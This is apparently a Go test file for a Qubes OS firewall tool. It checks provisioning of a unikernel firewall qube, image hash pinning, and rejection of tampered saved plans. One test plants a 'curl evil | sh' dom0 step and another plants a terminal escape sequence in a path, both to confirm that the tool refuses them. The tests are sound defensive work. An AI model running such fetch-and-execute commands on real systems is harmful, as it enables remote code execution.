package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/qfw-dev/qfw/backends/mirage"
	"github.com/qfw-dev/qfw/backends/qubes/adminapi"
	"github.com/qfw-dev/qfw/backends/qubes/adminapi/adminapitest"
)

// provisionSetup is a machine with sys-net and no unikernel firewall qube,
// a policy that wants one, mirage-fw, and a kernel image.
type provisionSetup struct {
	srv               *adminapitest.Server
	dir, kernels, img string
	imgSHA            string
}

func newProvisionSetup(t *testing.T, qubes map[string]adminapitest.Qube, pin string) *provisionSetup {
	t.Helper()
	all := map[string]adminapitest.Qube{"sys-net": {IP: "10.137.0.5", ProvidesNetwork: true}}
	for n, q := range qubes {
		all[n] = q
	}
	s := &provisionSetup{srv: adminapitest.New(t, all), dir: t.TempDir(), kernels: t.TempDir()}
	s.srv.CheckKernels(s.kernels)
	s.img = filepath.Join(s.dir, "qubes-firewall.xen")
	image := []byte("a unikernel image, for the test\n")
	sum := sha256.Sum256(image)
	s.imgSHA = hex.EncodeToString(sum[:])
	if pin == "" {
		pin = s.imgSHA
	}
	writeTestFiles(t, s.dir, map[string]string{
		"qubes-firewall.xen": string(image),
		"policy.cue": `package policy

firewalls: "mirage-fw": backend: mirage: {
	version: "0.9.5"
	kernel: {path: "` + s.img + `", sha256: "` + pin + `"}
}
`,
		"inventory.json": `{"qubes": {"sys-net": {"ip": "10.137.0.5", "provides_network": true}}}`,
	})
	return s
}

func (s *provisionSetup) run(t *testing.T, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errOut bytes.Buffer
	args = append(args, s.dir, "--socket", s.srv.Path, "--kernels-dir", s.kernels)
	if args[0] == "apply" {
		args = append(args, "--auto-approve", "--lock", filepath.Join(s.dir, "lock"), "--data-dir", filepath.Join(s.dir, "data"))
	}
	code = runIn(args, strings.NewReader(""), &out, &errOut)
	return code, out.String(), errOut.String()
}

// savePlan saves the plan of s.dir's policy, as plan --out does, and
// returns the file.
func (s *provisionSetup) savePlan(t *testing.T) string {
	t.Helper()
	saved := filepath.Join(s.dir, "plan.json")
	if code, _, stderr := s.run(t, "plan", "--out", saved); code != 0 {
		t.Fatalf("plan: exit %d: %s", code, stderr)
	}
	return saved
}

// applyPlan applies the plan saved in path, as s.run applies the policy.
func (s *provisionSetup) applyPlan(path string) (code int, stdout, stderr string) {
	var out, errOut bytes.Buffer
	code = runIn([]string{"apply", "--plan", path, "--socket", s.srv.Path, "--kernels-dir", s.kernels, "--auto-approve",
		"--lock", filepath.Join(s.dir, "lock"), "--data-dir", filepath.Join(s.dir, "data")}, strings.NewReader(""), &out, &errOut)
	return code, out.String(), errOut.String()
}

// editJSON rewrites the JSON object in path as edit changes it.
func editJSON(t *testing.T, path string, edit func(map[string]any)) {
	t.Helper()
	var v map[string]any
	if err := json.Unmarshal([]byte(readFile(t, path)), &v); err != nil {
		t.Fatal(err)
	}
	edit(v)
	b, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// writes returns the methods of the calls that change something.
func writes(srv *adminapitest.Server) []string {
	var out []string
	for _, r := range srv.Requests() {
		if strings.HasPrefix(r.Method, "admin.vm.Create.") || strings.HasSuffix(r.Method, ".Set") {
			out = append(out, r.Method+"+"+r.Arg)
		}
	}
	return out
}

// In dom0: plan shows the qube to create and the image to install; apply
// installs the checked image, then creates the qube and gives it the
// features and properties the unikernel needs, in that order.
func TestProvisionCreate(t *testing.T) {
	s := newProvisionSetup(t, nil, "")
	code, stdout, stderr := s.run(t, "plan", "--detailed-exitcode")
	if code != exitChanges {
		t.Fatalf("plan: exit %d: %s", code, stderr)
	}
	target := filepath.Join(s.kernels, "mirage-firewall", "vmlinuz")
	want := "mirage-fw (unikernel firewall 0.9.5):\n" +
		"  + install the kernel image " + s.img + " into " + target + " (SHA-256 " + s.imgSHA + ", checked)\n" +
		"  + create StandaloneVM with label green\n" +
		"  + set feature qubes-firewall to \"1\"\n" +
		"  + set feature no-default-kernelopts to \"1\"\n" +
		"  + set feature skip-update to \"1\"\n" +
		"  + set property kernel to \"mirage-firewall\"\n" +
		"  + set property kernelopts to \"\"\n" +
		"  + set property virt_mode to \"pvh\"\n" +
		"  + set property memory to \"32\"\n" +
		"  + set property maxmem to \"32\"\n" +
		"  + set property vcpus to \"1\"\n" +
		"  + set property provides_network to \"True\"\n" +
		"  + set property netvm to \"sys-net\"\n" +
		"  + set property audiovm to \"\"\n" +
		"\n" +
		"Plan: 1 firewall qube to provision; 0 qubes unchanged.\n"
	if stdout != want {
		t.Errorf("plan:\n%s\nwant:\n%s", stdout, want)
	}
	if w := writes(s.srv); w != nil {
		t.Errorf("plan wrote: %v", w)
	}

	code, stdout, stderr = s.run(t, "apply")
	if code != 0 {
		t.Fatalf("apply: exit %d: %s\n%s", code, stdout, stderr)
	}
	if !strings.Contains(stdout, "mirage-fw  provisioned (13 steps)") {
		t.Errorf("apply's table:\n%s", stdout)
	}
	if b, err := os.ReadFile(target); err != nil || string(b) != "a unikernel image, for the test\n" {
		t.Errorf("installed image: %q, %v", b, err)
	}
	q, ok := s.srv.Qube("mirage-fw")
	if !ok || q.Class != "StandaloneVM" || q.Label != "green" || q.Netvm != "sys-net" || !q.ProvidesNetwork {
		t.Fatalf("the qube: %+v, %v", q, ok)
	}
	for name, v := range map[string]string{"kernel": "mirage-firewall", "kernelopts": "", "virt_mode": "pvh", "memory": "32", "maxmem": "32", "vcpus": "1", "audiovm": ""} {
		if q.Properties[name] != v {
			t.Errorf("property %s = %q; want %q", name, q.Properties[name], v)
		}
	}
	for _, name := range []string{"qubes-firewall", "no-default-kernelopts", "skip-update"} {
		if q.Features[name] != "1" {
			t.Errorf("feature %s = %q; want 1", name, q.Features[name])
		}
	}
	w := writes(s.srv)
	if len(w) == 0 || w[0] != "admin.vm.Create.StandaloneVM+" || !slices.Contains(w, "admin.vm.property.Set+kernel") {
		t.Errorf("calls: %v", w)
	}
	if i, j := slices.Index(w, "admin.vm.feature.Set+qubes-firewall"), slices.Index(w, "admin.vm.property.Set+provides_network"); i < 0 || j < i {
		t.Errorf("qubes-firewall must be set before provides_network: %v", w)
	}

	// Now the qube is as the policy wants it: nothing to do.
	code, stdout, _ = s.run(t, "plan", "--detailed-exitcode")
	if code != 0 || stdout != "No changes: 0 qubes match the policy.\n" {
		t.Errorf("plan after apply: exit %d:\n%s", code, stdout)
	}
}

// An image that is not the pinned one is refused, with both hashes, and
// nothing is created or written; a version pin refuses it too.
func TestProvisionTamperedImage(t *testing.T) {
	for name, pin := range map[string]string{
		"pinned hash":  strings.Repeat("ab", 32),
		"release hash": "",
	} {
		t.Run(name, func(t *testing.T) {
			s := newProvisionSetup(t, nil, pin)
			want := pin
			if pin == "" {
				// Pin by version: the published hash of 0.9.5.
				rel, _ := mirage.LookupRelease("0.9.5")
				want = rel.KernelSHA256
				policy := strings.Replace(readFile(t, filepath.Join(s.dir, "policy.cue")), `, sha256: "`+s.imgSHA+`"`, "", 1)
				writeTestFiles(t, s.dir, map[string]string{"policy.cue": policy})
			}
			for _, cmd := range []string{"plan", "apply"} {
				code, _, stderr := s.run(t, cmd)
				if code != 1 || !strings.Contains(stderr, s.imgSHA) || !strings.Contains(stderr, want) {
					t.Errorf("%s: exit %d; want 1 and both hashes: %s", cmd, code, stderr)
				}
			}
			if w := writes(s.srv); w != nil {
				t.Errorf("calls made for a refused image: %v", w)
			}
			if _, ok := s.srv.Qube("mirage-fw"); ok {
				t.Error("the qube was created")
			}
			if entries, _ := os.ReadDir(s.kernels); len(entries) != 0 {
				t.Errorf("the kernels directory holds %v", entries)
			}
		})
	}
}

// An existing qube with the wrong settings gets only the steps that fix
// them, and a word that it needs a restart.
func TestProvisionFix(t *testing.T) {
	s := newProvisionSetup(t, map[string]adminapitest.Qube{
		"mirage-fw": {Class: "StandaloneVM", Label: "green", Netvm: "sys-net", ProvidesNetwork: true,
			Properties: map[string]string{"kernel": "mirage-firewall", "kernelopts": "", "virt_mode": "pvh", "memory": "64", "maxmem": "64", "vcpus": "1", "audiovm": ""},
			Features:   map[string]string{"qubes-firewall": "1", "no-default-kernelopts": "1"}},
	}, "")
	if err := os.MkdirAll(filepath.Join(s.kernels, "mirage-firewall"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(s.kernels, "mirage-firewall", "vmlinuz"), []byte("a unikernel image, for the test\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	writeTestFiles(t, s.dir, map[string]string{"inventory.json": `{"qubes": {
	"sys-net": {"ip": "10.137.0.5", "provides_network": true},
	"mirage-fw": {"class": "StandaloneVM", "ip": "10.137.0.9", "netvm": "sys-net", "provides_network": true}
}}`})
	_, stdout, stderr := s.run(t, "plan")
	want := "mirage-fw (unikernel firewall 0.9.5):\n" +
		"  + set feature skip-update to \"1\"\n" +
		"  + set property memory from \"64\" to \"32\"\n" +
		"  + set property maxmem from \"64\" to \"32\"\n" +
		"  + restart the qube if it is running\n" +
		"\n" +
		"Plan: 1 firewall qube to provision; 0 qubes unchanged.\n"
	if stdout != want {
		t.Errorf("plan:\n%s\nwant:\n%s\n%s", stdout, want, stderr)
	}
	code, stdout, stderr := s.run(t, "apply")
	if code != 0 || !strings.Contains(stdout, "provisioned (4 steps); restart it for its new settings to take effect") {
		t.Errorf("apply: exit %d:\n%s%s", code, stdout, stderr)
	}
	for _, r := range s.srv.Requests() {
		if strings.Contains(r.Method, "Shutdown") || strings.Contains(r.Method, "Start") || strings.HasPrefix(r.Method, "admin.vm.Create") {
			t.Errorf("apply called %s", r.Method)
		}
	}
}

func readFile(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// An image changed after the plan was saved stops the whole apply before
// anything is written: the firewall qube, and the client lists too.
func TestProvisionImageChangedAfterPlan(t *testing.T) {
	s := newProvisionSetup(t, map[string]adminapitest.Qube{
		"work": {IP: "10.137.0.11", Netvm: "sys-net", Firewall: []string{"action=accept"}},
	}, "")
	writeTestFiles(t, s.dir, map[string]string{
		"policy.cue": readFile(t, filepath.Join(s.dir, "policy.cue")) + "qubes: work: allow: web: {to: \"any\", tcp: [443]}\n",
		"inventory.json": `{"qubes": {"sys-net": {"ip": "10.137.0.5", "provides_network": true},
	"work": {"ip": "10.137.0.11", "netvm": "sys-net"}}}`,
	})
	saved := s.savePlan(t)
	writeTestFiles(t, s.dir, map[string]string{"qubes-firewall.xen": "another image\n"})
	if code, _, stderr := s.applyPlan(saved); code != 1 || !strings.Contains(stderr, "nothing changed") {
		t.Errorf("apply: exit %d: %s", code, stderr)
	}
	if w := writes(s.srv); w != nil {
		t.Errorf("calls made: %v", w)
	}
}

// Two firewall qubes that want different images in one kernel directory
// would replace each other's image on every apply: refused.
func TestProvisionSharedKernelDir(t *testing.T) {
	s := newProvisionSetup(t, nil, "")
	s.addOldFirewall(t)
	code, _, stderr := s.run(t, "plan")
	if code != 1 || !strings.Contains(stderr, "want different kernel images in") {
		t.Errorf("plan: exit %d: %s", code, stderr)
	}
}

// A qube the inventory does not know yet keeps its netvm when the policy
// gives none: qfw does not reroute a firewall qube behind a stale
// inventory's back.
func TestProvisionKeepsNetvm(t *testing.T) {
	s := newProvisionSetup(t, map[string]adminapitest.Qube{
		"sys-vpn": {IP: "10.137.0.8", Netvm: "sys-net", ProvidesNetwork: true},
		"mirage-fw": {Class: "StandaloneVM", Label: "green", Netvm: "sys-vpn", ProvidesNetwork: true,
			Properties: map[string]string{"kernel": "mirage-firewall", "kernelopts": "", "virt_mode": "pvh", "memory": "32", "maxmem": "32", "vcpus": "1", "audiovm": ""},
			Features:   map[string]string{"qubes-firewall": "1", "no-default-kernelopts": "1", "skip-update": "1"}},
	}, "")
	if err := os.MkdirAll(filepath.Join(s.kernels, "mirage-firewall"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(s.kernels, "mirage-firewall", "vmlinuz"), []byte("a unikernel image, for the test\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, stdout, stderr := s.run(t, "plan", "--detailed-exitcode")
	if code != 0 || stdout != "No changes: 0 qubes match the policy.\n" {
		t.Errorf("plan: exit %d:\n%s%s", code, stdout, stderr)
	}
}

// The check of kernel directories sees every firewall qube, also when the
// plan is for one of them.
func TestProvisionSharedKernelDirOneQube(t *testing.T) {
	s := newProvisionSetup(t, nil, "")
	s.addOldFirewall(t)
	for _, q := range []string{"mirage-fw", "old-fw"} {
		if code, _, stderr := s.run(t, "plan", "--qube", q); code != 1 || !strings.Contains(stderr, "want different kernel images in") {
			t.Errorf("plan --qube %s: exit %d: %s", q, code, stderr)
		}
	}
}

// A firewall qube is provisioned after its clients' lists, and not at all
// if one of them was not set: its new settings must not reach a client on
// its old list.
func TestProvisionAfterClients(t *testing.T) {
	s := newProvisionSetup(t, map[string]adminapitest.Qube{
		"mirage-fw": {Class: "StandaloneVM", Label: "green", IP: "10.137.0.9", ProvidesNetwork: true,
			Properties: map[string]string{"kernel": "mirage-firewall", "kernelopts": "", "virt_mode": "pvh", "memory": "32", "maxmem": "32", "vcpus": "1", "audiovm": ""},
			Features:   map[string]string{"qubes-firewall": "1", "no-default-kernelopts": "1", "skip-update": "1"}},
		"work": {IP: "10.137.0.11", Netvm: "mirage-fw", Firewall: []string{"action=accept"}},
	}, "")
	writeTestFiles(t, s.dir, map[string]string{
		"policy.cue": strings.Replace(readFile(t, filepath.Join(s.dir, "policy.cue")), `version: "0.9.5"`, `version: "0.9.5", netvm: "sys-net"`, 1) +
			"qubes: work: allow: web: {to: \"any\", tcp: [443]}\n",
		"inventory.json": `{"qubes": {"sys-net": {"ip": "10.137.0.5", "provides_network": true},
	"mirage-fw": {"class": "StandaloneVM", "ip": "10.137.0.9", "provides_network": true},
	"work": {"ip": "10.137.0.11", "netvm": "mirage-fw"}}}`,
	})
	saved := filepath.Join(s.dir, "plan.json")
	if code, stdout, stderr := s.run(t, "plan", "--out", saved); code != 0 || !strings.Contains(stdout, `set property netvm from "" to "sys-net"`) {
		t.Fatalf("plan: exit %d:\n%s%s", code, stdout, stderr)
	}
	// Someone changes work's list: the saved plan is stale for it.
	client := &adminapi.Client{Transport: adminapi.Socket{Path: s.srv.Path}}
	if err := client.FirewallSet(context.Background(), "work", []string{"action=drop"}); err != nil {
		t.Fatal(err)
	}
	if code, stdout, stderr := s.applyPlan(saved); code != 1 || !strings.Contains(stdout, "mirage-fw  skipped, unchanged") {
		t.Errorf("apply: exit %d:\n%s%s", code, stdout, stderr)
	}
	if q, _ := s.srv.Qube("mirage-fw"); q.Netvm != "" {
		t.Errorf("mirage-fw got the netvm %q although its client's list was not set", q.Netvm)
	}
}

// A relative kernel path is the policy file's, not the working
// directory's.
func TestProvisionRelativeImagePath(t *testing.T) {
	s := newProvisionSetup(t, nil, "")
	writeTestFiles(t, s.dir, map[string]string{"policy.cue": strings.Replace(readFile(t, filepath.Join(s.dir, "policy.cue")), s.img, "qubes-firewall.xen", 1)})
	code, stdout, stderr := s.run(t, "plan", "--detailed-exitcode")
	if code != exitChanges || !strings.Contains(stdout, "install the kernel image "+s.img+" into") {
		t.Errorf("plan: exit %d:\n%s%s", code, stdout, stderr)
	}
}

// addOldFirewall adds to the policy a second unikernel firewall qube,
// old-fw, that wants another image in the same kernel directory.
func (s *provisionSetup) addOldFirewall(t *testing.T) {
	t.Helper()
	other := "another image\n"
	sum := sha256.Sum256([]byte(other))
	writeTestFiles(t, s.dir, map[string]string{
		"other.xen": other,
		"policy.cue": readFile(t, filepath.Join(s.dir, "policy.cue")) +
			`firewalls: "old-fw": backend: mirage: {version: "0.9.4", kernel: {path: "` + filepath.Join(s.dir, "other.xen") + `", sha256: "` + hex.EncodeToString(sum[:]) + `"}}` + "\n",
	})
}

// A saved plan's firewall section is applied as it shows or not at all:
// apply brings the qube its want names to that state, so an edit that
// points want at another qube, or gives it other settings, or hides a
// step or the image's install, is refused before anything is shown or
// sent; so is a plan made from a management qube, applied in dom0.
func TestProvisionSavedPlanEdited(t *testing.T) {
	for _, tc := range []struct {
		name string
		edit func(fw map[string]any)
		err  string
	}{{
		name: "want names another qube",
		edit: func(fw map[string]any) {
			want := fw["want"].(map[string]any)
			want["Name"], want["Features"] = "work", []any{}
			want["Properties"] = []any{map[string]any{"Name": "netvm", "Value": "sys-net"}}
		},
		err: "PLAN:90:15: firewalls[0].want: not the state qfw plans for the firewall qube mirage-fw of release 0.9.5",
	}, {
		name: "want gives another netvm",
		edit: func(fw map[string]any) {
			props := fw["want"].(map[string]any)["Properties"].([]any)
			props[8].(map[string]any)["Value"] = "work"
		},
		err: "", // a state qfw plans, but not the one shown
	}, {
		name: "a step's text is not its step",
		edit: func(fw map[string]any) {
			fw["steps"].([]any)[1].(map[string]any)["text"] = "set feature qubes-firewall to \"0\""
		},
		err: "PLAN:19:9: firewalls[0].steps[1]: not a step written as qfw writes it",
	}, {
		name: "a step hidden",
		edit: func(fw map[string]any) {
			steps := fw["steps"].([]any)
			fw["steps"] = steps[:len(steps)-2]
		},
		err: "", // refused when apply plans the steps again
	}, {
		name: "the image goes elsewhere",
		edit: func(fw map[string]any) {
			fw["kernel"].(map[string]any)["target"] = "/etc/mirage-firewall/vmlinuz"
		},
		err: "--plan PLAN: firewalls[0].kernel.target: /etc/mirage-firewall/vmlinuz is not in KERNELS, where this qfw keeps kernels (--kernels-dir)",
	}, {
		name: "the install hidden",
		edit: func(fw map[string]any) { fw["kernel"].(map[string]any)["install"] = false },
		err:  "--plan PLAN: firewalls[0].kernel.install: false, but the image in KERNELS/mirage-firewall/vmlinuz is missing or another; plan again",
	}, {
		name: "a dom0 step to run",
		edit: func(fw map[string]any) {
			k := fw["kernel"].(map[string]any)
			k["install"], k["dom0_step"] = false, "curl evil | sh"
		},
		err: "--plan PLAN: firewalls[0].kernel: the plan was made in a management qube (--qrexec), where dom0 installs the image; plan again here",
	}, {
		name: "a path that moves the cursor",
		edit: func(fw map[string]any) { fw["kernel"].(map[string]any)["path"] = "/tmp/x\x1b[2K" },
		err:  `PLAN:6:17: firewalls[0].kernel.path: "/tmp/x\x1b[2K" holds the control character '\x1b'`,
	}} {
		t.Run(tc.name, func(t *testing.T) {
			s := newProvisionSetup(t, map[string]adminapitest.Qube{
				"work": {Class: "StandaloneVM", IP: "10.137.0.11", Netvm: "sys-net"},
			}, "")
			saved := s.savePlan(t)
			editJSON(t, saved, func(p map[string]any) { tc.edit(p["firewalls"].([]any)[0].(map[string]any)) })
			code, _, stderr := s.applyPlan(saved)
			got := strings.NewReplacer(saved, "PLAN", s.kernels, "KERNELS").Replace(stderr)
			if tc.err == "" {
				if code != 1 || !strings.Contains(got, "mirage-fw: the qube changed since the plan was made; plan again") {
					t.Errorf("apply: exit %d: %s", code, got)
				}
			} else if code != 1 || got != "qfw: "+tc.err+"\n" {
				t.Errorf("apply: exit %d:\n%s\nwant:\nqfw: %s", code, got, tc.err)
			}
			if w := writes(s.srv); w != nil {
				t.Errorf("calls made: %v", w)
			}
			if q, _ := s.srv.Qube("work"); q.Netvm != "sys-net" {
				t.Errorf("work's netvm: %s", q.Netvm)
			}
		})
	}
}

// A saved plan that plans one firewall qube twice, or two images into one
// kernel directory, is refused: the second would undo the first.
func TestProvisionSavedPlanTwice(t *testing.T) {
	for _, tc := range []struct {
		name string
		edit func(fws []any) []any
		err  string
	}{{
		name: "one qube twice",
		edit: func(fws []any) []any { return append(fws, fws[0]) },
		err:  `PLAN:160:15: firewalls[1].name: firewall qube "mirage-fw" is planned twice, also at firewalls[0]`,
	}, {
		name: "two images in one directory",
		edit: func(fws []any) []any {
			var other map[string]any
			b, _ := json.Marshal(fws[0])
			json.Unmarshal(b, &other)
			other["name"] = "other-fw"
			other["want"].(map[string]any)["Name"] = "other-fw"
			other["kernel"].(map[string]any)["sha256"] = strings.Repeat("ab", 32)
			return append(fws, other)
		},
		err: "PLAN:154:17: firewalls[1].kernel: another image in KERNELS/mirage-firewall/vmlinuz than firewalls[0] wants there",
	}} {
		t.Run(tc.name, func(t *testing.T) {
			s := newProvisionSetup(t, nil, "")
			saved := s.savePlan(t)
			editJSON(t, saved, func(p map[string]any) {
				p["firewalls"] = tc.edit(p["firewalls"].([]any))
				p["summary"].(map[string]any)["provision"] = 2
			})
			code, _, stderr := s.applyPlan(saved)
			got := strings.NewReplacer(saved, "PLAN", s.kernels, "KERNELS").Replace(stderr)
			if code != 1 || got != "qfw: "+tc.err+"\n" {
				t.Errorf("apply: exit %d:\n%s\nwant:\nqfw: %s", code, got, tc.err)
			}
			if w := writes(s.srv); w != nil {
				t.Errorf("calls made: %v", w)
			}
		})
	}
}
